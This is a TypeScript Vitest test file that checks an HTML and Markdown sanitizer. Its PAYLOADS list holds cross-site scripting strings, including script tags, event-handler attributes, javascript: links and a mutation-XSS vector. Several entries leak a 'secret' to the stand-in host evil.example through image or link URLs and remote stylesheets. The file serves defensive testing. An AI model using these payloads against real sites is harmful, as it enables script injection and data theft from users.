import { describe, expect, it } from "vitest";

import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS, renderMarkdown, sanitize } from "@/answers/sanitize";

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example/?q=secret">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)></form>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  "<style>@import 'https://evil.example/x.css'</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  '<video src="https://evil.example/x" autoplay></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle="alert(1)">x</details>',
  '<p id="root" class="x" name="body" data-x="1" aria-label="x" onclick="alert(1)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "![x](https://evil.example/x.png?q=secret)",
  "[x](javascript:alert(1))",
  "[x](https://evil.example 'title')",
  "![x][ref]\n\n[ref]: https://evil.example/x.png",
  "<https://evil.example/auto>",
  "`<img src=x onerror=alert(1)>`",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "```html\n<script>alert(1)</script>\n```",
];

function elementsOf(fragment: DocumentFragment): Element[] {
  return [...fragment.querySelectorAll("*")];
}

describe.each([
  ["sanitize", sanitize],
  ["renderMarkdown", renderMarkdown],
])("%s", (_name, render) => {
  it.each(PAYLOADS)("leaves nothing that runs or loads of %s", (payload) => {
    for (const element of elementsOf(render(payload))) {
      expect(ALLOWED_TAGS).toContain(element.tagName.toLowerCase());
      for (const { name } of element.attributes) expect(ALLOWED_ATTRIBUTES).toContain(name);
    }
  });
});

describe("renderMarkdown", () => {
  it("keeps what an answer is made of", () => {
    const fragment = renderMarkdown("# A\n\n1. **b**\n2. `c`\n\n| d |\n|---|\n| e |");
    expect(elementsOf(fragment).map((one) => one.tagName.toLowerCase())).toEqual([
      "h1", "ol", "li", "strong", "li", "code", "table", "thead", "tr", "th", "tbody", "tr", "td",
    ]); // prettier-ignore
  });

  it("shows where a link would lead instead of leading there", () => {
    expect(renderMarkdown("[guide](https://intranet.example/x)").textContent.trim()).toBe(
      "guide (https://intranet.example/x)",
    );
  });

  it("shows foreign HTML as the text it is", () => {
    expect(renderMarkdown("a <b>bold</b> claim").textContent.trim()).toBe("a <b>bold</b> claim");
  });
});
